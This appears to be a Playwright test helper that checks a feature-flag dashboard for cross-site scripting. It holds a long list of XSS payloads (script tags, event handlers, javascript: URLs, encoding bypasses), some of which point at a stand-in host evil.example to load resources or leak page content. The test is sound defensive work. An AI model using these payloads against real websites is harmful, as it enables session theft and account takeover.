import express, { type Express } from 'express';
import { FeatureFlag, segment, type Engine, type Sink } from 'gatekeeper-flags';
import { dashboard, overrideBadge } from 'gatekeeper-flags/dashboard';
import { conversion, mean } from 'gatekeeper-flags/experiments';
import type { Browser, Page } from 'playwright-core';
import { BY, engineOf } from './config';
import { checkoutTest } from './experiment-days';
import { having, many, sumsOf, unitsOf } from './experiment-totals';
import { listening } from './http-express';

const RUN = 'window.pwned=1;alert(1)';

/** Each gets out of some place in a page: text, attributes, URLs, scripts, styles, comments, or what reads them again. */
export const XSS: readonly string[] = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt\t/x>${RUN}</sCrIpT\n>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror='${RUN}'>`,
  `\`><img src=x onerror=${RUN}>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}`,
  `x onpointerrawupdate=${RUN} `,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script href=data:,${RUN} /></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</option></select><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  `</pre></details><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}><!--`,
  `<!--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  '<iframe src=javascript:alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action=//evil.example><input name=flag><button>Kill',
  "<img src='//evil.example/?", // takes what follows along
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<div hx-get="//evil.example" hx-trigger="load" hx-on::load="alert(1)">',
  `" hx-on:click="${RUN}" hx-trigger="load" hx-get="/`,
  '<hx-partial hx-target="body"><script>alert(1)</script></hx-partial>',
  '<input name=action><input name=submit><input name=__proto__>',
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}#{alert(1)}<%= alert(1) %>',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u2028\u2029<script>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt><img src=x onerror\0=alert(1)>',
  '\ud800<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  'ſcript<ſcript src=//evil.example>',
  '\u202e>tpircs/<)1(trela>tpircs<',
  '"; alert(1); //',
  "';alert(1)//",
  '\n\nX: y\r\n\r\n<script>alert(1)</script>',
  '.',
  '..',
  '__proto__',
];

/** A flag, all names and texts of which are these. */
class Written extends FeatureFlag {
  readonly description: string;
  override readonly owner: string;
  readonly variants: { readonly [name: string]: string };
  readonly off = 'OFF';
  override readonly overrides: { readonly [variant: string]: readonly string[] };
  override readonly payloads: { readonly [variant: string]: unknown };
  override readonly rules: FeatureFlag['rules'];
  constructor(text: string, more: readonly string[]) {
    super();
    const own = <T>(values: readonly (readonly [string, T])[]) => Object.fromEntries(values);
    this.description = text;
    this.owner = `${text} team`; // of spaces alone, it would be none
    this.variants = own([['off', 'OFF'], ...more.map((name, n) => [`v${n}`, name] as const)]);
    this.overrides = own(more.map((name) => [name, [name]]));
    this.payloads = own(more.map((name) => [name, own([[name, name]])]));
    this.rules = more.map((name, n) => ({
      name,
      when:
        n % 2
          ? segment(name, { user: { plan: name } } as never, { description: name })
          : ({ user: { plan: name } } as never),
      rollout: 50,
      serve: name,
    })) as never;
  }
}

/** An engine that has these texts wherever somebody can write one, under live control, too. */
async function written(texts: readonly string[]): Promise<Engine<any>> {
  const all = ['ALL', new Written('all of them', texts)] as const;
  const flags = Object.fromEntries([all, ...texts.map((text) => [text, new Written(text, [text])] as const)]);
  const tested = [...texts, 'another'].slice(0, 2);
  const engine = engineOf(
    { ...flags, TESTED: test(tested), [`${texts[0]} tested`]: test(tested) },
    { environment: 'staging', secret: 'a-secret-of-at-least-32-characters', sink: () => resultsOf(tested) },
  );
  const { live } = engine;
  for (const text of texts) {
    const by = { actor: text, reason: text };
    await live.addUser('ALL', text, `${text} `, by);
    await live.setRollout('ALL', text, 40, by);
    await live.kill(text, by);
  }
  await live.restore(texts[0]!, BY);
  await live.pin(texts[0]!, texts[0]!, BY);
  await live.pin('ALL', texts[0]!, BY);
  return engine;
}

/** An experiment between these arms, all else about which is called like the first of them. */
function test([text, other]: readonly string[]): FeatureFlag {
  return checkoutTest({
    ...{ description: text!, hypothesis: text!, owner: `${text} team`, variants: { A: text!, B: other! }, off: text! },
    ...{ arms: { [text!]: 50, [other!]: 50 }, primary: conversion(text!), secondary: [mean(`${text} too`)] },
    ...{ guardrails: [conversion(text!).below('-10%')], plannedUnits: 1_000 },
  } as never);
}

/** What came of it: enough for every number to be shown. */
function resultsOf(arms: readonly string[]): Sink {
  const weights = arms.map((arm) => `${arm}:50`).join(',');
  const [event] = arms;
  return having({
    units: arms.map((arm) => ({ ...unitsOf(arm, 500), weights })),
    sums: arms.flatMap((arm, n) => [
      sumsOf(arm, event!, many(100 + 50 * n, 1)),
      sumsOf(arm, `${event} too`, [...many(90, 1), ...many(20, 2 + n)]),
    ]),
  });
}

/** The dashboard and a page with the badge, to somebody whose name is one of these, too. */
function site(engine: Engine<any>, [name]: readonly string[]): Express {
  const authorize = () => ({ name: name!, role: 'operator' }) as const;
  const app = express().use(
    '/gatekeeper',
    dashboard(engine, { authorize, environment: name!, lookUp: (id) => ({ user: { id } as never }) }),
  );
  app.use((_req, res, next) => {
    res.set('Content-Security-Policy', "default-src 'none'; style-src 'self'; form-action 'self'; img-src data:");
    next();
  });
  return app
    .use(overrideBadge(engine))
    .get('/', (_req, res) => void res.type('html').send('<!doctype html><title>Shop</title><h1>Pots</h1>'));
}

/** The elements of a page and their attributes' names, but for what its scripts add and where a long name may break. */
const elements = (page: Page): Promise<string[]> =>
  page.evaluate(
    `[...document.querySelectorAll('*')].filter((one) => one.localName !== 'wbr').map((one) =>
      [one.localName, ...one.getAttributeNames().filter((name) => !/^hx-morph|powered$/.test(name)).sort()].join(' '))`,
  );

export interface Seen {
  /** Of each page, its elements. */
  readonly pages: { readonly [page: string]: readonly string[] };
  /** Dialogs, what the console says, requests to elsewhere, and scripts that ran. */
  readonly complaints: readonly string[];
}

/** Opens, in a real browser, each page of a dashboard on which all is called like `texts`. */
export async function look(browser: Browser, texts: readonly string[], some = texts.slice(0, 1)): Promise<Seen> {
  const engine = await written(texts);
  const complaints: string[] = [];
  const pages: { [page: string]: string[] } = {};
  await listening(site(engine, texts), async (origin) => {
    const context = await browser.newContext();
    const page = await context.newPage();
    page.setDefaultTimeout(10_000);
    page.on('dialog', (dialog) => (complaints.push(`a dialog: ${dialog.message()}`), dialog.dismiss()));
    page.on('pageerror', ({ message }) => complaints.push(message));
    page.on('console', (line) => {
      if (!/^Failed to load resource: the server responded with a status of 4|favicon/.test(line.text()))
        complaints.push(line.text());
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(`${origin}/`) && !request.url().startsWith('data:image/'))
        complaints.push(`a request to ${request.url()}`);
    });
    const note = async (name: string) => {
      pages[name] = await elements(page);
      if (await page.evaluate('window.pwned !== undefined')) complaints.push(`a script ran on ${name}`);
    };
    const open = async (name: string, path: string) => {
      await page.goto(`${origin}${path}`, { waitUntil: 'domcontentloaded' });
      await note(name);
    };
    /** Sends a form as a page would, without its scripts. */
    const submit = async (name: string, action: string, fields: object) => {
      const sent = page.waitForNavigation({ waitUntil: 'domcontentloaded' });
      await page.evaluate(
        `(() => { const form = Object.assign(document.createElement('form'), { method: 'post' });
          form.setAttribute('action', '/gatekeeper/actions/${action}');
          for (const [name, value] of ${JSON.stringify(Object.entries(fields))}) form.append(Object.assign(document.createElement('input'), { name, value }));
          document.body.append(form); HTMLFormElement.prototype.submit.call(form); })()`,
      );
      await sent;
      await note(name);
    };

    // Three minutes of counts, for the charts.
    const others = [
      'setTimeout',
      'clearTimeout',
      'setImmediate',
      'clearImmediate',
      'nextTick',
      'queueMicrotask',
      'performance',
      'Date',
      'hrtime',
    ] as const;
    jest.useFakeTimers({ doNotFake: [...others] });
    await open('flags', '/gatekeeper/');
    for (let minute = 0; minute < 3; minute++) {
      engine.for({ user: { id: 'somebody' } as never }).all();
      await jest.advanceTimersByTimeAsync(60_000);
    }
    jest.useRealTimers();
    await open('flag', '/gatekeeper/flags/ALL');
    if ((await page.locator('.chart canvas').count()) !== 1) complaints.push('there is no chart');
    await open('segments', '/gatekeeper/segments');
    await open('history', '/gatekeeper/history');
    await open('hygiene', '/gatekeeper/hygiene');
    await open('health', '/gatekeeper/health');
    await open('experiments', '/gatekeeper/experiments');
    await open('experiment', '/gatekeeper/experiments/TESTED');
    if ((await page.locator('.compared .interval').count()) !== 2) complaints.push('there are no intervals');
    for (const [n, text] of some.entries()) {
      const encoded = encodeURIComponent(wellFormed(text));
      await open(`flag ${n}`, `/gatekeeper/flags/${encoded}`);
      const title = await page.locator('h1').first().textContent();
      if (title !== wellFormed(text).replaceAll('\0', '')) complaints.push(`${text} is called ${title}`);
      await open(`no experiment ${n}`, `/gatekeeper/experiments/no${encoded}`);
      await open(`calculator ${n}`, `/gatekeeper/calculator?kind=${encoded}&baseline=no${encoded}&perDay=no${encoded}`);
      await open(`no flag ${n}`, `/gatekeeper/flags/no${encoded}`);
      await open(`filtered ${n}`, `/gatekeeper/history?flag=no${encoded}&actor=${encoded}&from=${encoded}`);
      await open(`search ${n}`, `/gatekeeper/?q=no${encoded}&state=${encoded}&done=${encoded}`);
      await open(`hygiene ${n}`, `/gatekeeper/hygiene?q=no${encoded}&state=${encoded}&page=${encoded}`);
      await open(`my search ${n}`, `/gatekeeper/overrides?q=no${encoded}&page=${encoded}`);
      await open(`playground ${n}`, `/gatekeeper/playground?user=no${encoded}&flag=ALL`);
      await open(
        `context ${n}`,
        `/gatekeeper/playground?context=${encodeURIComponent(JSON.stringify({ user: { id: `no${text}`, plan: `no${text}` } }))}&flag=ALL`,
      );
      await open(`no context ${n}`, `/gatekeeper/playground?context=no${encoded}`);
      await submit(`refused ${n}`, 'kill', { flag: `no${text}`, reason: text, [`no${text}`]: text });
      await submit(`conflict ${n}`, 'unpin', {
        flag: 'ALL',
        user: text,
        reason: text,
        ids: text,
        [`no${text}`]: text,
        revision: 0,
      });
      await submit(`no variant ${n}`, 'set-override', { flag: 'ALL', variant: `no${text}` });
      await submit(`done ${n}`, 'set-override', { flag: 'ALL', variant: wellFormed(text) });
    }

    // With scripts: what is typed, refused, and changed elsewhere, each of which is put into the page that is open.
    await page.goto(`${origin}/gatekeeper/flags/ALL`);
    await page.locator('#connection.on').waitFor();
    const told = page.waitForResponse((response) => response.url().endsWith('/flags/ALL'));
    await engine.live.addUser('ALL', texts[0]!, 'new', { actor: texts[0]!, reason: texts[0]! });
    await told;
    await page.getByLabel('Remove user new').waitFor();
    await note('changed elsewhere');
    await page.getByLabel('Why kill ALL').fill(texts[0]!.replace(/[\r\n]/g, ' '));
    await page.getByRole('button', { name: 'Kill', exact: true }).click();
    await page.getByText('Killed, for everybody').waitFor();
    await note('killed');
    await engine.live.restore('ALL', BY);

    for (const text of some) {
      const overrides = encodeURIComponent(JSON.stringify({ [text]: text }));
      await context.clearCookies();
      await context.addCookies([{ name: 'gatekeeper', value: overrides, url: origin }]);
      await open(`badge ${some.indexOf(text)}`, '/');
      await open(`my overrides ${some.indexOf(text)}`, '/gatekeeper/overrides');
    }
    await context.close();
  });
  await engine.close();
  return { pages, complaints };
}

/** The pages whose elements are not the same, in whatever order: names that are numbers come before others. */
export function differing(one: Seen, other: Seen): string[] {
  const same = (page: string) =>
    [one, other].map(({ pages }) => pages[page]?.toSorted().join()).every((list, _, [first]) => list === first);
  return Object.keys({ ...one.pages, ...other.pages }).filter((page) => !same(page));
}

/** Half a character has no place in a URL. */
function wellFormed(text: string): string {
  return Buffer.from(text).toString();
}

/** What `look` would see if these were names as people give them. */
export function plain(texts: readonly string[]): readonly string[] {
  return texts.map((_, n) => `plain ${n}`);
}
